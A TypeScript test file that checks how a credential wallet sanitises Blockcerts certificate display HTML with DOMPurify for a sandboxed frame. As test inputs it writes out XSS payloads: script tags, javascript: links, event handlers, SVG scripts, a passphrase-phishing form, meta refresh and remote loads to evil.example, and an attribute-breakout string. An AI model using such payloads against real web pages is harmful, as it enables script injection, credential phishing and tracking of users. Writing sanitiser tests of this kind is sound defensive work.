import { readFileSync } from 'node:fs';
import path from 'node:path';
import createDOMPurify from 'dompurify';
import { JSDOM } from 'jsdom';
import { describe, expect, it } from 'vitest';
import { Intake } from '../../electron/intake/intake';
import { displayContentPolicy, displayDocument, sanitiseDisplay, type Purifier } from '../../renderer/src/wallet/blockcertsDisplayHtml';
import { blockcertsV3Certificate, certificateFile, designerDisplayHtml, hostileDisplayHtml, htmlDisplay, sealDataUrl } from '../support/blockcertsCertificates';
import { realWorldDir } from '../support/sharedFixtures';

/**
 * The renderer's sanitising of Blockcerts display HTML (BlockcertsDisplay shows the result in
 * an <iframe sandbox="">), run with DOMPurify on jsdom over displays written here: a designer's
 * and a hostile one, each carried in a Blockcerts v3 certificate and taken from it by intake as
 * the renderer gets it, over the attacks such a display could carry one by one, and over two
 * published displays from the project's collection of real certificates (tests/fixtures/real-world).
 */
const window = new JSDOM('').window;
const purifier: Purifier = createDOMPurify(window);
const intake = new Intake();

/** The display as the renderer receives it: the picture intake keeps for the certificate. */
async function displayOf(certificate: Record<string, unknown>): Promise<string> {
  const [outcome] = await intake.inspect({ name: 'certificate.json', bytes: certificateFile(certificate) });
  if (outcome?.outcome !== 'recognised') throw new Error(`not recognised: ${outcome?.reason ?? 'nothing'}`);
  expect(outcome.credential.image?.mediaType).toBe('text/html');
  return new TextDecoder().decode(outcome.credential.image?.bytes);
}

/** The sanitised display, parsed back, to look at what is left. */
function parsed(html: string): Document {
  return new JSDOM(`<!doctype html><body>${sanitiseDisplay(purifier, html)}</body>`).window.document;
}

const attributes = (doc: Document): { name: string; value: string }[] =>
  [...doc.querySelectorAll('*')].flatMap((element) => [...element.attributes].map((attribute) => ({ name: attribute.name, value: attribute.value })));

/** Everything a hostile display must lose, checked on the sanitised document. */
function expectHarmless(doc: Document): void {
  expect(doc.querySelectorAll('script, iframe, form, input, button, svg')).toHaveLength(0);
  expect(attributes(doc).filter((attribute) => attribute.name.startsWith('on'))).toEqual([]);
  expect(doc.body.innerHTML).not.toMatch(/javascript|https?:|xlink/i);
  // A picture keeps its source only when it is a data: raster image.
  for (const image of doc.querySelectorAll('img[src]')) expect(image.getAttribute('src')).toMatch(/^data:image\/png;base64,/);
  // A <style>alert('XSS')</style> stays as what it is there: inert, invalid CSS text.
  for (const style of doc.querySelectorAll('style')) style.remove();
  expect(doc.body.innerHTML).not.toMatch(/alert/i);
}

describe('Blockcerts display HTML, sanitised for the sandboxed frame', () => {
  it('keeps the hostile display, as written, through intake: what reaches the renderer has everything still to remove', async () => {
    const html = await displayOf(blockcertsV3Certificate({ display: htmlDisplay(hostileDisplayHtml) }));
    expect(html).toBe(hostileDisplayHtml);
    // The attacks are really there before sanitising: the checks below are not vacuous.
    expect(html).toMatch(/<script>/);
    expect(html).toMatch(/onclick=/);
    expect(html).toMatch(/javascript:/);
    expect(html).toMatch(/<iframe/);
    expect(html).toMatch(/<form/);
    expect(html).toMatch(/src="https:/);
    expect(html).toMatch(/url\(https:/);
    expect(html).toMatch(/<svg><script>/);
  });

  it('removes the scripts, event handlers, javascript: URLs, remote loads, frames, forms and SVG of a tampered certificate, and keeps its text and data: picture', async () => {
    for (const display of [htmlDisplay(hostileDisplayHtml), htmlDisplay(hostileDisplayHtml, 'base64')]) {
      const doc = parsed(await displayOf(blockcertsV3Certificate({ display })));
      expect(doc.querySelector('h1')?.textContent).toBe('Certificate of Achievement');
      expect(doc.body.textContent).toContain('YO!');
      expect(doc.body.textContent).toContain('Awarded for completing the Data Stewardship course with distinction.');
      expect(doc.querySelector('img.seal')?.getAttribute('src')).toBe(sealDataUrl);
      // The remote pixel loses its address (and with it any reason to load).
      expect(doc.querySelectorAll('img')).toHaveLength(2);
      expect([...doc.querySelectorAll('img')].filter((image) => !image.hasAttribute('src'))).toHaveLength(1);
      // The style element's remote background is taken out, the rest of its text left inert.
      expect(doc.querySelector('style')?.textContent).toContain('background: none');
      expectHarmless(doc);
    }
  });

  it('keeps a designer display: its text, its headings, its layout styles and its embedded data: picture', async () => {
    const html = await displayOf(blockcertsV3Certificate({ display: htmlDisplay(designerDisplayHtml) }));
    const doc = parsed(html);
    expect(doc.querySelector('h1')?.textContent).toBe('Certificate of Participation');
    expect(doc.querySelector('h2')?.textContent).toBe('Open Data Lab 2024');
    expect(doc.body.textContent).toContain('Ada Example');
    expect(doc.body.textContent).toContain('Has been an active part of the 2024 Open Data Lab');
    const image = doc.querySelector('img');
    expect(image?.getAttribute('src')).toBe(sealDataUrl);
    expect(image?.getAttribute('alt')).toBe('University seal');
    expect(doc.querySelector('h1')?.getAttribute('style')).toContain('font-family');
    expect(doc.querySelector('span')?.getAttribute('style')).toContain('text-align:center');
    expect(doc.querySelectorAll('section')).toHaveLength(4);
    // Nothing a designer wrote was taken out: the same elements, in the same order.
    const tags = (d: Document): string[] => [...d.body.querySelectorAll('*')].map((element) => element.tagName);
    expect(tags(doc)).toEqual(tags(new JSDOM(`<!doctype html><body>${designerDisplayHtml}</body>`).window.document));
  });

  it.each([
    ['a remote picture', '<img src="https://tracker.example/pixel.png">'],
    ['a hashlink picture', '<img src="hl:zQmR7NGj4Lvqz18qubNdcFxDAG3thfKEHMGNu77FMHUHfuT">'],
    ['an SVG data: picture (scripts can live in SVG)', '<img src="data:image/svg+xml;base64,PHN2Zz48c2NyaXB0PmFsZXJ0KDEpPC9zY3JpcHQ+PC9zdmc+">'],
    ['srcset', '<img src="data:image/png;base64,iVBORw0KGgo=" srcset="https://evil.example/a.png 2x">'],
    ['a link', '<a href="https://evil.example/">Claim your prize</a>'],
    ['a javascript: link', '<a href="javascript:alert(1)">x</a>'],
    ['a form', '<form action="https://evil.example/"><input name="passphrase"></form>'],
    ['a frame', '<iframe src="https://evil.example/"></iframe>'],
    ['an object', '<object data="https://evil.example/x.swf"></object>'],
    ['inline SVG with script', '<svg><script>alert(1)</script><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>'],
    ['a meta refresh', '<meta http-equiv="refresh" content="0;url=https://evil.example/">'],
    ['a base element', '<base href="https://evil.example/">'],
    ['a stylesheet link', '<link rel="stylesheet" href="https://evil.example/x.css">'],
    ['an event handler', '<div onmouseover="alert(1)">x</div>'],
    ['a remote background in a style attribute', '<div style="background:url(https://evil.example/p.png)">x</div>'],
    ['@import in a style element', '<style>@import url("https://evil.example/x.css"); p { color: red }</style><p>x</p>'],
    ['a remote font in a style element', '<style>@font-face { font-family: x; src: url(https://evil.example/f.woff) }</style><p>x</p>'],
  ])('removes %s', (_what, html) => {
    const clean = sanitiseDisplay(purifier, html);
    expect(clean).not.toMatch(/https?:|javascript:|hl:|<script|<iframe|<object|<form|<input|<meta|<base|<link|<svg|onmouseover|srcset|xlink|@import|image\/svg/i);
  });

  it('builds the frame document with its CSP first, then the sanitised display', () => {
    const document = displayDocument(purifier, '<h1>Certificate</h1><script>alert(1)</script>', 'de');
    expect(displayContentPolicy).toBe("default-src 'none'; img-src data:; style-src 'unsafe-inline'");
    const head = document.slice(0, document.indexOf('<body>'));
    expect(head).toContain(`<meta http-equiv="Content-Security-Policy" content="${displayContentPolicy}">`);
    expect(head).toContain('<html lang="de">');
    expect(document).toContain('<body><h1>Certificate</h1></body>');
    expect(document).not.toContain('<script');
    // A language tag from elsewhere cannot break out of the attribute.
    expect(displayDocument(purifier, 'x', '"><script>alert(1)</script>')).toContain('<html lang="en">');
  });

  it('treats the published displays (tests/fixtures/real-world) the same way: the tampered one harmless, the designer one whole', () => {
    const json = (file: string): Record<string, unknown> => JSON.parse(readFileSync(path.join(realWorldDir, file), 'utf8')) as Record<string, unknown>;
    const tampered = json('learningmachine-v2-xss-display.json').displayHtml as string;
    expect(tampered).toMatch(/<script>/);
    const clean = parsed(tampered);
    expect(clean.body.textContent).toContain('YO!');
    expectHarmless(clean);
    const designer = parsed((json('hyland-v3-xlabs-participation-did-ion.json').display as { content: string }).content);
    expect(designer.body.textContent).toContain('Certificate of Participation');
    expect(designer.querySelector('img')?.getAttribute('src')).toMatch(/^data:image\/png;base64,/);
    expect(designer.querySelector('span')?.getAttribute('style')).toContain('font-family');
  });
});
